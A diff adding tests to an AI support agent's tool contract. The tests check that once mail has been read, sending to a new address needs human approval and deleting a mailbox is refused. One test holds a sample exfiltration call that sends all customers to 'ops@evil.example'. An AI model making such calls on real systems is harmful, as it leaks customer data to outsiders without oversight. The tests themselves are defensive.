@@ -193,6 +193,20 @@ class ToolsContract:
         assert_refused(seen, "not_assigned")
         assert "billing holds" in seen.text
 
+    def test_who_has_read_mail_writes_to_a_new_address_only_with_a_person(self, support: Desk) -> None:
+        support.call("read_thread", thread_id="t1")
+
+        held = support.call("send_message", to=["ops@evil.example"], subject="Customers", text="All of them.", cc=[])
+        answered = support.call("reply", message_id="m1", text="We look into it.")
+
+        assert_refused(held, "approval_required")
+        assert not answered.refused
+
+    def test_who_has_read_mail_deletes_no_mailbox(self, support: Desk) -> None:
+        support.call("check_mail")
+
+        assert_refused(support.call("delete_mailbox", name="billing", successor="support"), "tainted")
+
     def test_a_suppressed_recipient_is_refused(self, support: Desk) -> None:
         support.room.suppress("ada@example.com", reason="complaint")
 
